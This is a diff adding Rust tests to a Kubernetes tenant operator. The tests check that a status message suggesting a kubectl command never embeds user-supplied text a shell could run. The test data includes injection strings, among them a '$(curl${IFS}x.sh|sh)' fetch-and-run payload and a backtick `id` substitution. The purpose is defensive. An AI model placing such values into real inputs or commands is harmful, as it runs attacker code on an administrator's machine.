@@ -1,6 +1,6 @@
 //! Administrators' orders: what each does, when it is refused, and what the history says.
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use super::{
     mishaps::settled,
@@ -96,6 +96,37 @@ fn a_retained_tenant_is_handed_over_as_well() {
     world.make_tenant(&mallory());
     world.settle();
     assert_eq!((world.ready(), world.record_spec().incarnation), ((true, "Verified".into()), incarnation));
+}
+
+/// What another owner's Tenant of a kept name is told.
+fn told_to(owner: &Value) -> String {
+    let mut world = deleted("Retain");
+    world.make_tenant(&json!({ "owner": owner }));
+    world.settle();
+    assert_eq!(world.ready(), (false, "NameReserved".into()));
+    let status = world.status().expect("a status is told");
+    let ready = status.conditions.iter().find(|condition| condition.type_ == "Ready").expect("Ready is told");
+    ready.message.clone()
+}
+
+/// Whoever signs up chooses the text, and an administrator pastes the command.
+#[test]
+fn what_a_shell_would_read_as_its_own_is_in_no_command() {
+    for plain in ["mallory@example.com", "auth0|5f7c8ec7-c33c", "eu-west-1:b3_d.4+x"] {
+        let message = told_to(&json!({ "subject": plain, "email": "m@example.com" }));
+        let command = format!("kubectl annotate tenantrecord alice openclaw.io/transfer-to='{plain}'");
+        assert!(message.contains(&command), "{message}");
+    }
+    for hostile in
+        ["a'$(curl${IFS}x.sh|sh)'@x.co", "a`id`@x.co", "a\"b@x.co", "a;b@x.co", "a\\b@x.co", "m\u{fc}ller@x.co"]
+    {
+        for owner in [json!({ "email": hostile }), json!({ "subject": hostile, "email": "m@example.com" })] {
+            let message = told_to(&owner);
+            assert!(!message.contains(hostile) && !message.contains("transfer-to="), "{message}");
+            assert!(message.contains("kubectl edit tenantrecord alice"), "says what to do: {message}");
+            assert!(message.contains("openclaw.io/purge-now="), "{message}");
+        }
+    }
 }
 
 #[test]
